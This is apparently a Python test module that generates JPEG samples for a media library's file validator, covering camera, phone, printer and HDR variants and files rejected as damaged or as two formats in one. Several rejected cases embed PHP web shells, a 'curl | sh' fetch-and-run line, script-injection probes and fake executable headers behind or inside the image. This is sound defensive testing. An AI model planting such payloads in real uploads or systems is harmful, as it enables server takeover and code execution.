"""JPEG as cameras, telephones, scanners and printers write it, and what hides in or behind it."""

import io
import struct
import zipfile

import pyvips
from PIL import Image, ImageCms

from tests.media_library.corpus.case import bad, either, good, written
from tests.media_library.corpus_pictures import encoded, oriented, painting, save

EOI = b"\xff\xd9"


def jpeg(width: int = 500, height: int = 350, mode: str = "RGB", **options: object) -> bytes:
    return encoded(painting(width, height, mode), "JPEG", **{"quality": 80, **options})


def segment(marker: int, data: bytes) -> bytes:
    """An application segment or comment."""
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def with_segments(data: bytes, *segments: bytes) -> bytes:
    """The picture with these segments right behind its start."""
    return data[:2] + b"".join(segments) + data[2:]


def zipped(**members: bytes) -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        for name, content in members.items():
            writer.writestr(name, content)
    return archive.getvalue()


def film() -> bytes:
    """The start of the film that a telephone hangs behind its picture."""
    boxes = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
    return boxes + struct.pack(">I", 9008) + b"mdat" + bytes(range(250)) * 36


def xmp(text: str) -> bytes:
    head = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    return segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + f"{head}{text}</rdf:RDF></x:xmpmeta>".encode())


def samsung_motion_photo() -> bytes:
    """Samsung's trailer: blocks, a directory "SEFH" of them, and "SEFT" at the very end."""
    name = b"MotionPhoto_Data"
    block = b"\x00\x00\x30\x0a" + struct.pack("<I", len(name)) + name + film()
    directory = (
        b"SEFH"
        + struct.pack("<II", 107, 1)
        + b"\x00\x00\x30\x0a"
        + struct.pack("<II", len(block), len(block))
    )
    return jpeg() + block + directory + struct.pack("<I", len(directory)) + b"SEFT"


def mpo(second: bytes | None = None) -> bytes:
    """Two pictures in one file: a portrait with its depth, a picture with its gain map (Ultra HDR)."""
    data = io.BytesIO()
    small = Image.open(io.BytesIO(second)) if second else painting(250, 175)
    painting(500, 350).save(data, "MPO", save_all=True, append_images=[small])
    return data.getvalue()


def cmyk(*, transform: int = 0, marker: bool = True) -> bytes:
    """As a printer's: with Adobe's marker, where 2 says YCCK, or without."""
    data = jpeg(mode="CMYK")
    at = data.index(b"Adobe\x00")
    if not marker:
        return data[: at - 4] + data[at + 12 :]
    return data[: at + 11] + bytes([transform]) + data[at + 12 :]


def profiled(profile: bytes, mode: str = "RGB") -> bytes:
    return jpeg(mode=mode, icc_profile=profile)


def srgb_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def twelve_bits() -> bytes:
    """Medicine's JPEG, by its header."""
    data = bytearray(jpeg())
    at = data.index(b"\xff\xc0")
    data[at + 1], data[at + 4] = 0xC1, 12
    return bytes(data)


def frame(width: int, height: int) -> bytes:
    """A picture whose header promises this size."""
    data = jpeg()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def subsampled(mode: str) -> bytes:
    picture = pyvips.Image.new_from_buffer(jpeg(), "")
    return bytes(picture.jpegsave_buffer(Q=90, subsample_mode=mode, restart_interval=4))


ROTTEN_EXIF = b"Exif\0\0II*\0\x08\0\0\0\xff\xff" + bytes(range(200))
LOOPING_EXIF = b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<HHHIII", 1, 0x8769, 4, 1, 8, 8)
CASES = [
    *(good(f"turned-{turn}.jpg", oriented(turn)) for turn in range(1, 9)),
    good("progressive.jpg", written(lambda: jpeg(progressive=True))),
    good("unsampled.JPEG", written(lambda: subsampled("off"))),
    good("restart-markers.jpe", written(lambda: subsampled("on"))),
    good("grey-progressive.jfif", written(lambda: jpeg(mode="L", progressive=True))),
    good("printer-cmyk.jpg", written(cmyk)),
    good("printer-ycck.jpg", written(lambda: cmyk(transform=2))),
    good("cmyk-no-marker.jpg", written(lambda: cmyk(marker=False))),
    good("one-pixel.jpg", written(lambda: jpeg(1, 1))),
    good("thin.jpg", written(lambda: jpeg(3, 4000))),
    good("portrait-mpo.jpg", written(mpo)),
    good("ultra-hdr.jpg", written(lambda: with_segments(mpo(jpeg(250, 175, "L")), xmp('<rdf:Description hdrgm:Version="1.0" xmlns:hdrgm="http://ns.adobe.com/hdr-gain-map/1.0/"/>')))),
    good("google-motion.jpg", written(lambda: with_segments(jpeg(), xmp('<rdf:Description GCamera:MotionPhoto="1" xmlns:GCamera="http://ns.google.com/photos/1.0/camera/"/>')) + film())),
    good("samsung-motion.jpg", written(samsung_motion_photo)),
    good("padded.jpg", written(lambda: jpeg() + bytes(4096))),
    good("huawei-tail.jpg", written(lambda: jpeg() + b"\x00DUALPHOTO" + bytes(range(256)) * 20)),
    good("comment.jpg", written(lambda: with_segments(jpeg(), segment(0xFE, "庆祝建党一百周年 CREATOR: gd-jpeg v1.0".encode())))),
    good("long-xmp.jpg", written(lambda: with_segments(jpeg(), *[xmp("史" * 20_000)] * 20))),
    good("rotten-exif.jpg", written(lambda: with_segments(jpeg(), segment(0xE1, ROTTEN_EXIF)))),
    good("looping-exif.jpg", written(lambda: with_segments(jpeg(), segment(0xE1, LOOPING_EXIF)))),
    good("srgb-profile.jpg", written(lambda: profiled(srgb_profile()))),
    good("grey-with-srgb-profile.jpg", written(lambda: profiled(srgb_profile(), "L"))),
    good("cmyk-with-srgb-profile.jpg", written(lambda: profiled(srgb_profile(), "CMYK"))),
    good("broken-profile.jpg", written(lambda: profiled(srgb_profile()[:200] + b"\xff" * 400))),
    good("cut-profile.jpg", written(lambda: profiled(srgb_profile()[:300]))),
    good("noise-before-a-marker.jpg", written(lambda: (lambda data: data[:20] + b"\x00\x00" + data[20:])(jpeg()))),
    good("camera-102-megapixels.jpg", lambda path: Image.new("RGB", (11_648, 8_736), (120, 60, 30)).save(path, "JPEG"), slow=True),
    bad("no-end.jpg", written(lambda: jpeg()[:-600]), "damaged"),
    bad("twelve-bits.jpg", written(twelve_bits), "damaged"),
    bad("no-size.jpg", written(lambda: frame(0, 0)), "damaged"),
    bad("too-tall.jpg", written(lambda: frame(500, 60_000)), "damaged"),
    bad("flood-65500.jpg", written(lambda: frame(65_500, 65_500)), "too_many_pixels"),
    either("no-tables.jpg", written(lambda: jpeg().replace(b"\xff\xc4", b"\xff\xee"))),
    bad("jar-behind.jpg", written(lambda: jpeg() + zipped(**{"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})), "two_in_one"),
    bad("rar-behind.jpg", written(lambda: jpeg() + b"Rar!\x1a\x07\x01\x00" + bytes(range(256)) * 400), "two_in_one"),
    bad("7z-behind.jpg", written(lambda: jpeg() + b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(range(256)) * 400), "two_in_one"),
    bad("zip-far-behind.jpg", written(lambda: jpeg() + zipped(**{"a.txt": b"a" * 300_000}) + bytes(90_000)), "two_in_one"),
    bad("php-behind.jpg", written(lambda: jpeg() + b"<?php system($_GET['c']); ?>" + bytes(90_000)), "two_in_one"),
    bad("page-behind.jpg", written(lambda: jpeg() + b"<html><body onload=alert(1)>"), "two_in_one"),
    bad("pdf-behind.jpg", written(lambda: jpeg() + b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj"), "two_in_one"),
    bad("program-behind.jpg", written(lambda: jpeg() + b"MZ\x90\x00" + bytes(56) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(900)), "two_in_one"),
    bad("elf-behind.jpg", written(lambda: jpeg() + b"\x7fELF\x02\x01\x01" + bytes(900)), "two_in_one"),
    bad("shell-behind.jpg", written(lambda: jpeg() + b"\n#!/bin/sh\ncurl http://x | sh\n"), "two_in_one"),
    bad("php-in-exif.jpg", written(lambda: jpeg(exif=_exif("<?php eval($_POST[1]);?>"))), "two_in_one"),
    bad("php-deep-in-comment.jpg", written(lambda: with_segments(jpeg(), segment(0xE2, bytes(9000)), segment(0xFE, bytes(9000) + b"<?php eval($_POST[1]);?>"))), "two_in_one"),
    bad("script-in-xmp.jpg", written(lambda: with_segments(jpeg(), segment(0xE2, bytes(9000)), xmp("<script>alert(1)</script>"))), "two_in_one"),
    either("only-marker.jpg", save(b"\xff\xd8\xff")),
    either("only-ends.jpg", save(b"\xff\xd8\xff\xd9")),
    either("end-cut.jpg", written(lambda: jpeg()[:-2])),
]  # fmt: skip


def _exif(text: str) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = text
    return exif
